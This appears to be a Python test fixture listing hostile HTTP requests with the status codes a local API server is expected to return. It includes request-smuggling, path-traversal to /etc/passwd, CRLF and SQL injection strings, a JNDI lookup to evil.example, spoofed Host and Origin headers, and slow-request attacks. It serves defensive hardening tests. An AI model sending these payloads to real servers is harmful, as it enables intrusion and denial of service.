"""
What an attacker sends to the HTTP front, and the status that it meets: one row an attack.

`benchmarks.attacks` tries them on a server as it is installed, and the tests on small limits.
"""

import re
import socket
from contextlib import suppress

PATIENCE = 60.0  # seconds that an attacker waits
HOST = b"Host: localhost\r\n"
CLOSED = 0  # no answer: the connection just ends


def connected(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout=PATIENCE)


def get(path: bytes, *headers: bytes) -> bytes:
    lines = b"".join(one + b"\r\n" for one in headers)
    return b"GET " + path + b" HTTP/1.1\r\n" + HOST + lines + b"Connection: close\r\n\r\n"


def post(body: bytes, *headers: bytes, path: bytes = b"/v1/classify") -> bytes:
    named = {one.split(b":")[0].lower() for one in headers}
    lines = [b"Content-Type: application/json", *headers, b"Connection: close"]
    if not named & {b"content-length", b"transfer-encoding"}:
        lines.append(b"Content-Length: %d" % len(body))
    head = b"POST " + path + b" HTTP/1.1\r\n" + HOST + b"\r\n".join(lines)
    return head + b"\r\n\r\n" + body


def rest(attacker: socket.socket) -> bytes:
    """Read until the server closes the connection."""
    answer = b""
    try:
        while piece := attacker.recv(65_536):
            answer += piece
    except ConnectionResetError:
        pass
    return answer


def status_of(answer: bytes) -> int:
    found = re.match(rb"HTTP/1\.1 (\d+) ", answer)
    return int(found[1]) if found else CLOSED


def meet(port: int, attack: bytes) -> bytes:
    with connected(port) as attacker:
        with suppress(BrokenPipeError, ConnectionResetError):  # it may have heard enough
            attacker.sendall(attack)
        return rest(attacker)


HEADS = {
    "letters that are no request": (b"\x16\x03\x01\x02\x00 hello\r\n\r\n", 400),
    "a request of another age": (b"GET /healthz\r\n\r\n", 400),
    "the first words of HTTP/2": (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 400),
    "a header without a colon": (get(b"/healthz", b"nonsense"), 400),
    "a line that is folded": (get(b"/healthz", b"X-A: b\r\n c"), 400),
    "a null in a header": (get(b"/healthz", b"X-A: b\x00c"), 400),
    "two lengths": (post(b"{}", b"Content-Length: 2", b"Content-Length: 3"), 400),
    "a length and chunks, to smuggle": (
        post(b"0\r\n\r\nGET /", b"Content-Length: 5", b"Transfer-Encoding: chunked"),
        400,
    ),
    "a negative length": (post(b"", b"Content-Length: -5"), 400),
    "a length beyond all numbers": (post(b"", b"Content-Length: " + b"9" * 30), 400),
    "a chunk that is no chunk": (post(b"zz\r\n", b"Transfer-Encoding: chunked"), 400),
    "a body that is far too long": (post(b"", b"Content-Length: 9999999999"), 413),
    "one that asks first": (
        post(b"", b"Content-Length: 9999999999", b"Expect: 100-continue"),
        413,
    ),
    "a thousand headers": (get(b"/healthz", *(b"X-%d: a" % one for one in range(1_000))), 431),
    "a header that is too long": (get(b"/healthz", b"X-A: " + b"a" * 20_000), 431),
    "a header without end": (b"GET /healthz HTTP/1.1\r\nX-A: " + b"a" * 3_000_000, 431),
    "headers without end": (b"GET /healthz HTTP/1.1\r\n" + b"X-A: b\r\n" * 300_000, 431),
    "an address that is too long": (get(b"/" + b"a" * 10_000), 414),
    "an address without end": (b"GET /" + b"a" * 3_000_000, 431),
    "a packed body": (post(b"\x1f\x8b", b"Content-Encoding: gzip"), 415),
    "a form, as a page of another site may send": (
        post(b"text=a", b"Content-Type: application/x-www-form-urlencoded"),
        415,
    ),
    "a way up": (get(b"/v1/releases/../../etc/passwd"), 404),
    "a way up, veiled": (get(b"/v1/releases/%2e%2e%2f%2e%2e%2fetc%2fpasswd"), 404),
    "a way up, twice veiled": (get(b"/v1/releases/%252e%252e%252fetc"), 422),
    "a way from the root": (get(b"//etc/passwd"), 404),
    "a null in the address": (get(b"/v1/releases/r1%00"), 422),
    "an end of line in the address": (get(b"/v1/x%0d%0aSet-Cookie:%20a=b"), 404),
    "a quote for the database": (get(b"/v1/releases/r1';DROP%20TABLE%20records"), 422),
    "another method": (get(b"/v1/classify").replace(b"GET", b"TRACE", 1), 405),
    "a tunnel": (b"CONNECT evil.example:443 HTTP/1.1\r\n" + HOST + b"\r\n", 400),
    "another protocol": (get(b"/healthz", b"Connection: Upgrade", b"Upgrade: websocket"), 200),
    "a host that was made to mean this machine": (
        post(b"{}").replace(b"localhost", b"evil.example"),
        401,
    ),
    "two hosts": (post(b"{}", b"Host: evil.example"), 401),
    "the page of another site": (post(b"{}", b"Origin: https://evil.example"), 401),
    "a proxy's word for who asks": (post(b"{}", b"X-Forwarded-For: 127.0.0.1"), 401),
}

BODIES = {
    "brackets without end": (b"[" * 90_000, 400),
    "objects without end": (b'{"a":' * 15_000, 400),
    "no UTF-8": (b'{"text": "\xc3\x28"}', 400),
    "half of a pair of letters": (rb'{"text": "\ud800"}', 400),
    "a number without end": (b'{"text": "a", "metadata": {"a": ' + b"9" * 90_000 + b"}}", 400),
    "a template": (b'{"text": "{{7*7}} ${jndi:ldap://evil.example/a}"}', 200),
    "a quote in an id": (b"""{"id": "'; DROP TABLE records; --", "text": "a"}""", 200),
    "a name of Python's own": (b'{"text": "a", "__class__": {"__init__": 1}}', 422),
    "ten thousand messages": (b'{"messages": [' + b"1," * 9_999 + b"1]}", 413),
    "a name to guess at": (
        b'{"text": "a", "options": {"dimensions": ["' + b"a" * 90_000 + b'"]}}',
        422,
    ),
    "letters that turn the line": (b'{"text": "a\\u202e\\u0000b"}', 200),
}

# Whoever stops half-way, and waits.
SLOW = {
    "who says nothing": (b"", CLOSED),
    "who never ends a line": (b"GET /healthz HT", 408),
    "who never ends the headers": (b"GET /healthz HTTP/1.1\r\nHost: a\r\n", 408),
    "who never ends the body": (post(b'{"te', b"Content-Length: 50"), 408),
    "who sends empty lines": (b"\r\n", 408),
}
